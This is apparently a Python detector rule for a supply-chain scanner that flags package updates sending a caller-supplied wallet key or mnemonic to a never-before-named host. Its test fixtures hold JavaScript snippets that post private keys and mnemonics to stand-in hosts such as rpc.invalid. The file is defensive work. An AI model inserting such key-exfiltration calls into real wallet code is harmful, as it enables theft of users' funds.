"""This update sends a key that its caller hands over to a host that its line of releases never named.

## What it detects
A flow from a parameter that takes a wallet's key, or the words that a key is made from, to a connection, where the line
never connected to that host or named it; and, weighing less, the first such flow of a line to a host that cannot be
told. A parameter takes a key if it is named so (`privateKey`, `mnemonic`), or if the function makes a key of it
(`fromSecretKey(t)`, `mnemonicToSeed(t)`), signs with it (`ed25519.sign(text, t)`) or keeps it (`secretKey: t`). The
token and the cookies in the headers of a request that a server is handed are such keys as well.

## Why it matters
The releases of @solana/web3.js (2024), xrpl (2025) and dydx (2026) read no credential of the machine: their users
handed it to them. Nothing but where it went told them from any other release, and a wallet library has its hosts.

## What it misses
Keys that no name tells, neither their own nor that of what is done with them in the same function; keys that pass
through another file, or through an object that is filled elsewhere; hosts that the line already speaks to. At first
contact every host is new.

## References
- The public records of @solana/web3.js 1.95.6, xrpl 4.2.1 and @dydxprotocol/v4-client-js 1.22.1
- MITRE ATT&CK T1657, Financial Theft; T1041
"""

from collections.abc import Iterator

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Chain, Tally, new_chains, package_json
from lazaretto.core.update import ArtifactView, Pair, Update

CARD = Card(
    id="key-to-new-host",
    title="A key goes to a new host",
    variants={
        "new-host": "A key that the caller hands over goes to a host that the line never named.",
        "unknown-host": "For the first time in this line a key goes to a host that cannot be told.",
    },
    group="flow",
    why="Who takes a key needs nothing else.",
    attack=("T1195.002", "T1657", "T1041"),
)

_NAMING = (Kind.NET_CONNECT, Kind.DNS_QUERY, Kind.LITERAL_URL, Kind.LITERAL_DOMAIN)

_WALLET = (
    "exports.sign = (text, privateKey) => make(text, privateKey);\n"
    "exports.send = (text) => fetch('https://node.invalid/v1', { method: 'POST', body: text });\n"
)
_BEFORE = {"package.json": package_json("1.0.0"), "index.js": _WALLET}

EXAMPLES = (
    Example(
        title="a function that signs also posts the key to a host of its own",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const note = (data) => fetch('https://rpc.invalid/q', { headers: { 'x-id': data } });\n"
            + _WALLET.replace("=> make(text, privateKey)", "=> { note(privateKey); return make(text, privateKey); }"),
        },
        expect="new-host",
        at="index.js:2",
    ),
    Example(
        title="a minified constructor of key pairs posts what it keeps",
        before={
            "package.json": package_json("1.0.0"),
            "index.js": "exports.P = class { constructor(t) { this.k = { secretKey: t }; } };\n",
        },
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const n = (t) => fetch('https://rpc.invalid/q', { headers: { 'x-id': t } });\n"
            "exports.P = class { constructor(t) { n(t); this.k = { secretKey: t }; } };\n",
        },
        expect="new-host",
        at="index.js:2",
    ),
    Example(
        title="the words that a key is made from go to a host that is given in the settings",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _WALLET + "exports.note = (mnemonic, at) => fetch(at.host, { body: mnemonic });\n",
        },
        expect="unknown-host",
        at="index.js:3",
    ),
    Example(
        title="a key goes to the host that the library always spoke to",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _WALLET + "exports.load = (keypair) => fetch('https://node.invalid/v2', { body: keypair });\n",
        },
    ),
    Example(
        title="the seed of a generator of random numbers goes to a new host",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _WALLET + "exports.draw = (seed) => fetch('https://random.invalid/v1', { body: seed });\n",
        },
    ),
    Example(
        title="another parameter goes to a new host",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _WALLET + "exports.price = (name) => fetch('https://price.invalid/v1', { body: name });\n",
        },
    ),
)

_MESSAGES = {
    "new-host": "sends a key that it is given to a host that this line never named",
    "unknown-host": "sends a key that it is given over the network, as this line never did",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant: the parameter, and the connection."""
    tally = Tally(CARD)
    for pair in update.pairs:
        for variant, chain in _answers(pair):
            tally.add(variant, pair, chain.source, chain.sink)
    yield from tally.findings(_MESSAGES)


def _answers(pair: Pair) -> Iterator[tuple[str, Chain]]:
    if pair.before is None:
        return
    named: frozenset[str] | None = None
    for chain, new_kind in new_chains(pair, (Kind.KEY_GIVEN,), (Kind.NET_CONNECT, Kind.DNS_QUERY)):
        if not chain.data:
            continue
        host = host_of(chain.sink.fact.value)
        named = _hosts(pair.before) if named is None else named
        if host and host not in named:
            yield "new-host", chain
        elif not host and new_kind:
            yield "unknown-host", chain


def host_of(value: str | None) -> str:
    """Return the host of a URL or the host itself, or nothing if a part of it is unknown."""
    text = (value or "").lower()
    authority = text.split("://", 1)[-1].split("/", 1)[0].split("?", 1)[0].rpartition("@")[2]
    host = authority.partition(":")[0]
    return host if "." in host and not set(host) & set("*{}$ ") else ""


def _hosts(view: ArtifactView) -> frozenset[str]:
    return frozenset(host_of(placed.fact.value) for placed in view.placed if placed.fact.kind in _NAMING)
